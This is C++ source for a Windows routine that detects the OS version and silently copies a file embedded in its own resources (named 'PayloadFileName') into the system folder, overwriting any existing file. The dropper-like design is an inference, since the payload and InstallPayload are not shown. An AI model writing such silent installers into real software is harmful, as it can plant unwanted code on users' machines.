#include "modMain.h"

#include "ansi_text.h"
#include "file_system_object.h"
#include "handles.h"
#include "install_steps.h"
#include "modWindowsVersion.h"
#include "raised_error.h"

namespace {

class ScriptingFiles final : public InstallFiles {
public:
    explicit ScriptingFiles(FileSystemObject& fso) : fso_(fso) {}
    bool Exists(const Text& path) override { return fso_.FileExists(path); }
    void Copy(const Text& source, const Text& destination) override { fso_.CopyFile(source, destination, true); }
    void Delete(const Text& path) override { fso_.DeleteFile(path, true); }

private:
    FileSystemObject& fso_;
};

class PlainFiles final : public InstallFiles {
public:
    // A directory search that matches ordinary files only: hidden files,
    // system files and folders do not count.
    bool Exists(const Text& path) override
    {
        WIN32_FIND_DATAA found;
        const UniqueFind search(NullIfInvalid(FindFirstFileA(ToAnsi(path).c_str(), &found)));
        constexpr DWORD notOrdinary = FILE_ATTRIBUTE_HIDDEN | FILE_ATTRIBUTE_SYSTEM | FILE_ATTRIBUTE_DIRECTORY;
        return search && (found.dwFileAttributes & notOrdinary) == 0 && found.cFileName[0] != '\0';
    }
    void Copy(const Text& source, const Text& destination) override
    {
        if (!CopyFileA(ToAnsi(source).c_str(), ToAnsi(destination).c_str(), FALSE))
            RaiseWin32(GetLastError());
    }
    void Delete(const Text& path) override
    {
        if (!DeleteFileA(ToAnsi(path).c_str()))
            RaiseWin32(GetLastError());
    }
};

// The running executable's folder, "\", its base name and ".exe".
Text OwnExecutablePath()
{
    wchar_t path[MAX_PATH];
    const DWORD length = GetModuleFileNameW(nullptr, path, MAX_PATH);
    if (length == 0 || length >= MAX_PATH)
        RaiseWin32(length == 0 ? GetLastError() : ERROR_INSUFFICIENT_BUFFER);
    const Text full(path, length);
    const auto slash = full.find_last_of(L'\\');
    const Text folder = full.substr(0, slash);
    Text name = full.substr(slash + 1);
    name = name.substr(0, name.find_last_of(L'.'));
    return folder + L"\\" + name + L".exe";
}

} // namespace

void Main()
{
    switch (GetWindowsVersion()) {
    case 2:
    case 3:
    case 4:
        InstallWithFixedPaths();
        break;
    case 5:
    case 6:
    case 7:
    case 8:
    case 9:
    case 10:
    case 11:
    case 12:
        InstallWithSpecialFolders();
        break;
    default:
        break; // Win32s and unrecognised systems: nothing to do
    }
}

void InstallWithSpecialFolders()
{
    // Declared in the reverse of their release order: the folders, the
    // resource object, then the FileSystemObject.
    FileSystemObject fso;
    CResDll resources;
    resources.DllName(OwnExecutablePath());
    const DispatchRef systemFolder = fso.GetSpecialFolder(FileSystemObject::SystemFolder);
    const DispatchRef temporaryFolder = fso.GetSpecialFolder(FileSystemObject::TemporaryFolder);

    const Text target = FileSystemObject::FolderPath(systemFolder.Get()) + L"\\" + PayloadFileName;
    const Text temporary = FileSystemObject::FolderPath(temporaryFolder.Get()) + L"\\" + PayloadFileName;
    ScriptingFiles files(fso);
    InstallPayload(resources, target, temporary, files);
}

void InstallWithFixedPaths()
{
    // Unbound: the resource object reads this executable through the null module handle.
    CResDll resources;
    PlainFiles files;
    InstallPayload(resources, Text(L"C:\\Windows\\System\\") + PayloadFileName, Text(L"C:\\") + PayloadFileName, files);
}
